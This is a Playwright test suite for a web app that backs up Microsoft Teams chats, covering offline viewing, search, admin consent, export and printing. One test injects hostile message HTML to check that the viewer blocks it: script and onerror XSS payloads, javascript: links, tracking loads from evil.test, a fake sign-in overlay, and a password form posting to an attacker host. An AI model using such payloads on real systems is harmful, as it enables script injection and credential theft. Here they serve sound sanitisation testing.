import { readFile } from 'node:fs/promises';
import type { Locator, Page } from '@playwright/test';
import { askedToRead } from '../../shared/model/sources.ts';
import type { Simulator } from '../../shared/simulator/simulator.ts';
import { makeWave } from '../preview/make-wave.ts';
import { CLIENT_ID, expect, test } from './holdfast.ts';
import { inspect } from './inspect.ts';
import { acceptMore, backUpNow, expectComplete, goTo, pressLast, signIn } from './steps.ts';

test.use({ simulatorOptions: { messages: 3 }, keepsApp: true });

const MINUTE_MS = 60_000;
const DAY_MS = 24 * 60 * MINUTE_MS;

const flow = (page: Page) => page.getByRole('log');
const said = (page: Page, words: string): Locator =>
  flow(page).getByRole('article').filter({ hasText: words });
const inList = (page: Page) => page.getByRole('navigation', { name: 'Chats' }).getByRole('link');

/** Allows chats in the first run and copies; ends in Chats. */
async function copyChats(page: Page): Promise<void> {
  await signIn(page);
  const opened = page.waitForEvent('popup');
  await page.getByRole('button', { name: 'Keep your chats as well…' }).click();
  await acceptMore(await opened);
  await expect(page.getByRole('checkbox', { name: 'Keep your chats' })).toBeChecked();
  await page.getByRole('button', { name: 'Start the first copy' }).click();
  await expectComplete(page);
  await goTo(page, 'Chats');
}

/** Back from Microsoft's window, where it said that an administrator has to decide. */
async function leave(microsoft: Page): Promise<void> {
  await microsoft.waitForLoadState();
  await pressLast(microsoft, /Back|Return|Cancel/);
}

/** A group in which every kind of thing was said, and another one. */
function fill({ chats: { control } }: Simulator) {
  const { now } = control.service;
  const ana = control.person('Ana Lima');
  const ben = control.person('Ben Okafor');
  const other = control.group('Office, Fridays', [ben], now - 3 * DAY_MS);
  control.post(other, { from: ben, text: 'Biscuits are on Leo this week', at: now - 2 * DAY_MS });
  const chat = control.group('Site team', [ana, ben], now - DAY_MS);
  const at = (minutes: number) => now - DAY_MS + minutes * MINUTE_MS;
  const first = control.post(chat, { from: ana, text: 'Gauge 7 again: 0.1 mm', at: at(1) });
  control.post(chat, { from: ana, text: 'Cold night, though', at: at(2) });
  const edited = control.post(chat, { from: ben, text: 'Cubes are back on Friday', at: at(30) });
  const deleted = control.post(chat, { from: ben, text: 'Then take the props off', at: at(40) });
  control.post(chat, { text: 'Nothing comes off', quotes: [first], at: at(60) });
  const picture = { from: ana, text: 'From the roof', pictures: [PICTURE], at: at(70) };
  control.post(chat, picture);
  const file = control.shareFile('Cube results.txt', 'day 28: 41 MPa');
  control.post(chat, { text: 'Sheet attached', files: [file], at: at(80) });
  control.react(chat, first, '👍', ben);
  return { control, chat, other, ana, ben, edited, deleted };
}

/** A channel with a post of the day before yesterday, answered now, and one of yesterday. */
function fillTeam({ chats: { control } }: Simulator) {
  const at = (days: number) => control.service.now - days * DAY_MS;
  const ana = control.person('Ana Lima');
  const team = control.team('Builders');
  const cranes = control.channel(team, 'Cranes', at(9));
  const written = { from: ana, subject: 'Deliveries', text: 'Which crane comes?', at: at(2) };
  const post = control.post(cranes, written);
  control.post(cranes, { from: ana, text: 'Lights are up', at: at(1) });
  const list = control.shareInChannel(team, cranes, 'Crane list.txt', 'one, two');
  control.reply(cranes, post, { text: 'It is the big one', files: [list] });
}

/** The smallest PNG: one dot. */
const PICTURE = Uint8Array.from(
  atob(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  ),
  (letter) => letter.charCodeAt(0),
);

test('chats are copied and read with the network off: edits, deletions, pictures, files, people', async ({
  page,
  simulator,
  context,
}) => {
  const { control, chat, edited, deleted, ana, ben } = fill(simulator);
  const tone = new Uint8Array(makeWave());
  control.post(chat, {
    from: ana,
    html: '<p>Listen <img alt="A crane (GIF Image)" src="https://media.giphy.test/crane.gif"></p>',
    files: [control.shareFile('Voice note.wav', tone)],
    at: control.service.now - DAY_MS + 75 * MINUTE_MS,
  });
  await copyChats(page);
  control.edit(chat, edited, '<p>Cubes are back on Monday</p>');
  control.delete(chat, deleted);
  control.removeMember(chat, ben);
  await backUpNow(page);
  // What shows files is here for whoever has no network.
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
  });
  await page.reload();
  await context.setOffline(true);
  await goTo(page, 'Chats');

  // The one that was written in last is open, at its end.
  await expect(inList(page)).toHaveText([/Site team/, /Office, Fridays/]);
  await expect(page.getByRole('heading', { level: 2, name: 'Site team' })).toBeVisible();
  await expect(page.getByText('Chats can be read, searched and saved here')).toBeVisible();
  await expect(said(page, 'Sheet attached')).toBeInViewport();

  const props = said(page, 'Then take the props off');
  await expect(props).toContainText(/Deleted .*, kept here/);
  const cubes = said(page, 'Cubes are back on Monday');
  await expect(cubes.getByText('Cubes are back on Friday')).toBeHidden();
  await cubes.getByText('Show what it said').click();
  await expect(cubes.getByText('Cubes are back on Friday')).toBeVisible();
  await page.getByRole('checkbox', { name: 'Show what is gone' }).uncheck();
  await expect(said(page, 'This message was deleted.')).toBeVisible();
  await page.getByRole('checkbox', { name: 'Show what is gone' }).check();

  const drawn = said(page, 'From the roof').getByRole('img', { name: 'Picture' });
  await expect.poll(() => drawn.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);
  const spoken = said(page, 'Listen');
  await expect(spoken).toContainText('GIF: A crane (on media.giphy.test, not in your copy)');
  await expect(spoken.locator('audio')).toHaveCount(0);
  await spoken.getByRole('button', { name: /^Play Voice note/ }).press('Enter');
  const player = spoken.locator('audio');
  await expect.poll(() => player.evaluate(({ duration }: HTMLMediaElement) => duration)).toBe(1);
  await expect(player).toBeFocused();
  await inspect(page, 'chats');

  await said(page, 'Sheet attached')
    .getByRole('button', { name: /Cube results/ })
    .click();
  await expect(page.getByRole('dialog', { name: 'Cube results.txt' })).toContainText('41 MPa');
  await page.keyboard.press('Escape');

  // What is answered is gone to from its quote; its reactions are told by name.
  await said(page, 'Nothing comes off').getByRole('button', { name: /Show/ }).click();
  const gauge = flow(page).locator('.meant');
  await expect(gauge).toContainText('Gauge 7 again');
  await expect(gauge.getByRole('list', { name: 'Reactions' })).toContainText('Ben Okafor');
  await expect(said(page, 'Cold night')).toHaveClass(/together/);

  await page.getByRole('button', { name: 'People' }).click();
  const people = page.getByRole('dialog', { name: 'People in Site team' });
  await expect(people.getByText('Ana Lima', { exact: true })).toBeVisible();
  await expect(people.getByRole('listitem').filter({ hasText: 'Ben Okafor' })).toContainText(
    'last seen in it',
  );
  await inspect(page, 'chats-people');
});

test('a chat is searched, gone through by date, linked to, and copied from', async ({
  page,
  simulator,
  context,
}) => {
  const { control, ana } = fill(simulator);
  const long = control.group('Long one', [ana], control.service.now - 300 * DAY_MS);
  for (let day = 299; day > 10; day -= 1) {
    const at = control.service.now - day * DAY_MS;
    control.post(long, { from: ana, text: `day ${day} before`, at });
  }
  await copyChats(page);
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await inList(page).filter({ hasText: 'Long one' }).click();
  await expect(said(page, 'day 11 before')).toBeInViewport();

  await page.getByRole('button', { name: 'Search this chat' }).click();
  const field = page.getByRole('searchbox', { name: 'Search this chat' });
  await field.fill('"day 200"');
  await expect(page.getByRole('list', { name: 'Found' }).getByRole('listitem')).toHaveCount(1);
  await inspect(page, 'chats-find');
  await field.press('Enter');
  await expect(said(page, 'day 200 before')).toBeInViewport();
  await expect(said(page, 'day 200 before')).toBeFocused();
  await field.fill('biscuits');
  await expect(page.getByText('Nothing found in this chat.')).toBeVisible();
  await field.press('Escape');

  await page.getByRole('button', { name: 'Go to a date' }).click();
  await inspect(page, 'chats-go-to');
  const at = new Date(control.service.now - 150 * DAY_MS);
  const two = (value: number) => String(value).padStart(2, '0');
  const day = `${at.getFullYear()}-${two(at.getMonth() + 1)}-${two(at.getDate())}`;
  await page.getByLabel('Go to', { exact: true }).fill(day);
  await expect(said(page, 'day 150 before')).toBeInViewport();
  await page.keyboard.press('Escape');

  await said(page, 'day 149 before').focus();
  await page.keyboard.press('k');
  await expect(said(page, 'day 150 before')).toBeFocused();
  const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
  await page.keyboard.press('c');
  await expect.poll(clipboard).toMatch(/^Ana Lima, .*:\nday 150 before$/);
  await page.keyboard.press('l');
  await expect.poll(clipboard).toMatch(/\/chats\/[^/]+\/\d+$/);
  await page.goto(await clipboard());
  await expect(said(page, 'day 150 before')).toBeInViewport();
  await expect(flow(page).locator('.meant')).toContainText('day 150 before');
});

test('what is new since the last visit is counted, and marked where it begins', async ({
  page,
  simulator,
}) => {
  const { control, other, ben } = fill(simulator);
  await copyChats(page);
  await inList(page).filter({ hasText: 'Office, Fridays' }).click();
  await expect(said(page, 'Biscuits')).toBeVisible();
  await expect(page.locator('.news')).toHaveCount(0);
  await inList(page).filter({ hasText: 'Site team' }).click();
  await expect(said(page, 'Sheet attached')).toBeVisible();
  const siteTeam = page.url();
  control.post(other, { from: ben, text: 'And cake' });
  control.post(other, { from: ben, text: 'And tea' });
  await backUpNow(page);
  await page.goto(siteTeam);
  const office = inList(page).filter({ hasText: 'Office, Fridays' });
  await expect(office).toContainText('Ben: And tea');
  await expect(office).toContainText('2 new since your last visit');
  await inspect(page, 'chats-news');

  await office.click();
  await expect(said(page, 'And tea')).toBeInViewport();
  const marked = flow(page)
    .locator('[data-index]')
    .filter({ hasText: 'New since your last visit' });
  await expect(marked).toContainText('And cake');
  await expect(page.locator('.news')).toHaveCount(0);
  await page.reload();
  await expect(said(page, 'And tea')).toBeVisible();
  await expect(page.locator('.news')).toHaveCount(0);
  await expect(marked).toHaveCount(0);
});

test('an earlier copy shows a chat as it was, and what was said then', async ({
  page,
  simulator,
}) => {
  const { control, chat, edited } = fill(simulator);
  await copyChats(page);
  control.edit(chat, edited, '<p>Cubes are back on Monday</p>');
  await backUpNow(page);
  await goTo(page, 'Chats');
  await expect(said(page, 'Cubes are back on Monday')).toBeVisible();
  const strip = page.getByRole('region', { name: 'Time' });
  await strip.getByRole('list', { name: 'Copies' }).getByRole('button').first().click();
  await expect(said(page, 'Cubes are back on Friday')).toBeVisible();
  await expect(said(page, 'Cubes are back on Monday')).toHaveCount(0);
  await inspect(page, 'chats-past');
});

test('a hostile message can do nothing: nothing runs, nothing is loaded, nothing poses', async ({
  page,
  simulator,
  context,
}) => {
  const { control, chat, ana } = fill(simulator);
  const hostile = [
    '<script>globalThis.pwned = 1</script><img src=x onerror="globalThis.pwned = 1">',
    '<img src="https://evil.test/pixel.png"><style>@import "https://evil.test/a.css"; body{display:none}</style>',
    '<a href="javascript:globalThis.pwned=1">press me</a><a href="https://evil.test/go">https://bank.test</a>',
    '<h1 id="page" style="position:fixed;inset:0;background:red">Sign in again</h1>',
    '<form action="https://evil.test/take"><input name="password"><button>Restore</button></form>',
    `${'<blockquote>'.repeat(400)}deep down${'</blockquote>'.repeat(400)}`,
  ].map((html) => `<div>${html}</div>`);
  for (const html of hostile) control.post(chat, { from: ana, html });
  const card = {
    type: 'AdaptiveCard',
    body: [
      { type: 'TextBlock', text: '<img src=x onerror="globalThis.pwned = 1">Pay now' },
      { type: 'Image', url: 'https://evil.test/card.png' },
    ],
    actions: [{ type: 'Action.OpenUrl', title: 'Pay', url: 'javascript:globalThis.pwned=1' }],
  };
  const cards = [{ type: 'application/vnd.microsoft.card.adaptive', card }];
  control.post(chat, { from: ana, cards });
  const asked: string[] = [];
  context.on('request', (request) => {
    if (request.url().includes('evil.test')) asked.push(request.url());
  });
  await copyChats(page);

  await expect(said(page, 'Pay now')).toBeInViewport();
  await expect(said(page, 'deep down')).toHaveCount(1);
  await said(page, 'press me').getByText('press me').click();
  await expect(flow(page).getByRole('heading', { level: 1 })).toHaveCount(0);
  await expect(
    flow(page).locator('form, input, script, style, iframe, [style*=fixed]'),
  ).toHaveCount(0);
  await expect(flow(page).getByRole('button', { name: 'Restore' })).toHaveCount(0);
  await expect(said(page, 'Pay now').getByRole('button', { name: 'Pay' })).toHaveAttribute(
    'aria-disabled',
    'true',
  );
  await expect(page.getByRole('link', { name: 'https://bank.test' })).toHaveAttribute(
    'title',
    'https://evil.test/go',
  );
  expect(await page.evaluate(() => (globalThis as { pwned?: number }).pwned)).toBeUndefined();
  expect(asked).toEqual([]);
});

test('an organisation that decides about chats, and then about channels, stops nothing else', async ({
  page,
  simulator,
}) => {
  const { grants } = simulator.signIn;
  grants.blocked.add('Chat.Read');
  fill(simulator);
  fillTeam(simulator);
  await signIn(page);
  await page.getByRole('button', { name: 'Start the first copy' }).click();
  await expectComplete(page);
  await page.goto(new URL('/chats', page.url()).href);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('No chats are kept yet.');
  await inspect(page, 'chats-none');
  const opened = page.waitForEvent('popup');
  await page.getByRole('button', { name: 'Allow and copy your chats…' }).click();
  await leave(await opened);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(
    'Your organisation decides about chats.',
  );
  await expect(page.getByRole('button', { name: 'Copy the request' })).toBeVisible();
  const mail = page.getByRole('link', { name: 'Write it in an e-mail' });
  const href = decodeURIComponent((await mail.getAttribute('href')) ?? '');
  expect(href).toContain('adminconsent');
  expect(href).toContain('Chat.Read');
  await inspect(page, 'chats-blocked');
  grants.consentForAll(CLIENT_ID, askedToRead('chats'));
  await page.getByRole('button', { name: 'Check again' }).click();
  await expect(said(page, 'Sheet attached')).toBeVisible();

  // The same once more, of what an administrator always has to decide about.
  await goTo(page, 'Settings');
  const asked = page.waitForEvent('popup');
  await page.getByRole('button', { name: 'Allow and copy your channels…' }).click();
  await leave(await asked);
  await expect(page.getByText('Your organisation decides about channels.')).toBeVisible();
  expect(decodeURIComponent((await mail.getAttribute('href')) ?? '')).toMatch(
    /adminconsent.*ChannelMessage\.Read\.All/,
  );
  grants.consentForAll(CLIENT_ID, askedToRead('channels'));
  await page.getByRole('button', { name: 'Check again' }).click();
  await expect(page.getByText('Copied with your chats')).toBeVisible();
  await goTo(page, 'Home');
  await expectComplete(page);
  await goTo(page, 'Chats');
  await expect(page.getByRole('heading', { level: 2, name: 'Builders' })).toBeVisible();
  await inList(page).filter({ hasText: 'Cranes' }).click();
  await expect(said(page, 'It is the big one')).toHaveClass(/reply/);
  await expect(flow(page).getByRole('article')).toContainText([
    'Which crane comes?',
    'It is the big one',
    'Lights are up',
  ]);
  await inspect(page, 'channels');
});

test('of a personal account it is said that nobody can copy its chats', async ({
  page,
  simulator,
}) => {
  Object.assign(simulator.account, { tenantId: '9188040d-6c67-4c5b-b112-36a304b66dad' });
  await signIn(page);
  await page.goto(new URL('/chats', page.url()).href);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(
    'Microsoft offers no way to copy the chats of a personal account.',
  );
  await inspect(page, 'chats-personal');
});

test('a chat is saved, sent to the mailbox, and one message posted again, each after it is shown', async ({
  page,
  simulator,
}) => {
  const { chat } = fill(simulator);
  await copyChats(page);
  // So that narrow pages show it, and not the list.
  await inList(page).filter({ hasText: 'Site team' }).click();
  await expect(said(page, 'Sheet attached')).toBeVisible();
  const putBack = async (way: string) => {
    await page.getByRole('button', { name: 'Save or put back' }).click();
    if (way === 'Save…') await inspect(page, 'chats-ways');
    await page.getByRole('button', { name: way, exact: true }).click();
  };
  await putBack('Save…');
  const saving = page.getByRole('dialog', { name: 'Save this conversation' });
  await expect(saving.getByText(/messages and events, 1 picture, 1 file/)).toBeVisible();
  await inspect(page, 'chats-save');
  const download = page.waitForEvent('download');
  await saving.getByRole('button', { name: 'Save', exact: true }).click();
  const saved = await readFile(await (await download).path(), 'utf8');
  expect(saved).toContain('Then take the props off');
  await saving.getByRole('button', { name: 'Close' }).click();

  await putBack('Send to my mailbox…');
  const sending = page.getByRole('dialog', { name: 'Send to my mailbox' });
  const send = sending.getByRole('button', { name: /^Put into my mailbox/ });
  await expect(send).toBeVisible();
  await inspect(page, 'chats-to-mailbox');
  const asked = page.waitForEvent('popup');
  await send.click();
  await acceptMore(await asked);
  await expect(sending.getByText(/(is|are) in Conversation History now\./)).toBeVisible();
  await inspect(page, 'chats-in-mailbox');
  await sending.getByRole('button', { name: 'Done' }).click();

  const before = chat.messages.size;
  const roof = async () => {
    const message = said(page, 'From the roof');
    // A mouse that lies still is on another line once the list has moved under it.
    await expect(async () => {
      await message.hover();
      await message
        .getByRole('button', { name: 'Put back what Ana Lima wrote…' })
        .click({ timeout: 2_000 });
    }).toPass();
  };
  // A part begins with one message and ends, by keys, with another.
  await roof();
  await inspect(page, 'chats-one-message');
  await page.getByRole('button', { name: 'Up to here' }).click();
  await said(page, 'Nothing comes off').focus();
  await page.keyboard.press('f');
  const part = page.getByRole('region', { name: 'The part that is marked' });
  await expect(part).toContainText('2 messages and events');
  await expect(flow(page).locator('.in-part')).toHaveCount(2);
  await inspect(page, 'chats-part');
  await part.getByRole('button', { name: 'Save or put back this part' }).click();
  await page.getByRole('button', { name: 'Put its files back…' }).filter({ visible: true }).click();
  const files = page.getByRole('dialog', { name: 'Put its files back' });
  await expect(files.getByText('No files were shared here.')).toBeVisible();
  await inspect(page, 'chats-no-files');
  await files.getByRole('button', { name: 'Cancel' }).click();
  await part.getByRole('button', { name: 'Clear' }).click();
  await expect(flow(page).locator('.in-part')).toHaveCount(0);

  await roof();
  await page.getByRole('button', { name: 'Post again…' }).click();
  const posting = page.getByRole('dialog', { name: 'Post again' });
  const preview = posting.frameLocator('.put-back-preview').locator('body');
  await expect(preview).toContainText('Ana Lima');
  await expect(preview).toContainText('From the roof');
  expect(chat.messages.size).toBe(before);
  await inspect(page, 'chats-post');
  const askedAgain = page.waitForEvent('popup');
  await posting.getByRole('button', { name: 'Post this' }).click();
  await acceptMore(await askedAgain);
  await expect(posting.getByText('1 post is posted, read back and compared.')).toBeVisible();
  expect(chat.messages.size).toBe(before + 1);
});

test('days of a chat go on paper, without the page around them', async ({ page, simulator }) => {
  fill(simulator);
  await copyChats(page);
  await page.evaluate(() => {
    globalThis.print = () => document.body.setAttribute('data-printed', '');
  });
  await page.getByRole('button', { name: 'Print…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Print which days?' });
  await inspect(page, 'chats-print');
  await dialog.getByRole('button', { name: 'Print', exact: true }).click();
  await expect(page.locator('body')).toHaveAttribute('data-printed', '');
  await page.emulateMedia({ media: 'print' });
  await expect(page.locator('.chat-sheet').getByText('Sheet attached')).toBeVisible();
  await expect(page.locator('.chat-sheet')).toContainText('Printed from a copy kept by');
  await expect(page.getByRole('navigation', { name: 'Chats' })).toBeHidden();
  await expect(dialog.getByRole('button', { name: 'Close' })).toBeHidden();
});
